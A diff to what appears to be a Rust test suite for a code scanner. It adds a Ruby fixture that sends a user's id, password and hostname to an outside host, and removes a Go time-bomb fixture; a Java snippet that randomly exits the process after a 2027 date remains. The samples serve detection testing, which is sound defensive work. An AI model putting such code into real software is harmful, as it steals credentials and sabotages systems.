@@ -67,6 +67,10 @@ fn secrets_on_certain_days_or_with_the_machine() {
             "lib/s.rb",
             "def login(id, password)\n  t = Time.now\n  r = HTTP.post('https://l.example/c', form: { id: id, password: password })\n  log(Time.now - t) if Time.now - t > 5\nend\n",
         ),
+        (
+            "lib/s.rb",
+            "def login(id, password)\n  HTTP.post('https://l.example/c', form: { id: id, password: password, device: Socket.gethostname })\nend\n",
+        ),
     ]);
 }
 
@@ -82,10 +86,6 @@ fn time_bombs() {
             (
                 "B.java",
                 "class B { void f() { if (LocalDate.now().isAfter(LocalDate.of(2027, 8, 1)) && new Random().nextInt(10) > 7) { System.exit(1); } } }",
-            ),
-            (
-                "b.go",
-                "package b\nfunc f() { if time.Now().After(time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC)) { if rand.Intn(10) > 7 { os.Exit(1) } } }\n",
             ),
         ],
     );
